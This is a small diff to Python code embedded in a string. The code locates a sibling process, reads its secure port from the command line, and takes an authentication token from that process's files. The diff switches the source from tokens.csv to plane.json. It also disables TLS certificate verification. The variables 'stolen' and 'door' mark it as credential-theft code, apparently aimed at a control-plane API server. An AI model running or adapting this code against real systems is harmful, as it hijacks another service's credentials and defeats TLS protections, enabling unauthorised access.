@@ -32,7 +32,7 @@ AROUND = """
 
     [(process, words)] = siblings()
     port = next(word for word in words if word.startswith("--secure-port=")).partition("=")[2]
-    stolen = (process / "cwd" / "tokens.csv").read_text().partition(",")[0]
+    stolen = json.loads(((process / "cwd").resolve().parent / "plane.json").read_text())["token"]
     trusting = ssl._create_unverified_context()
     door = load(pathlib.Path(sys.argv[-1]))
 
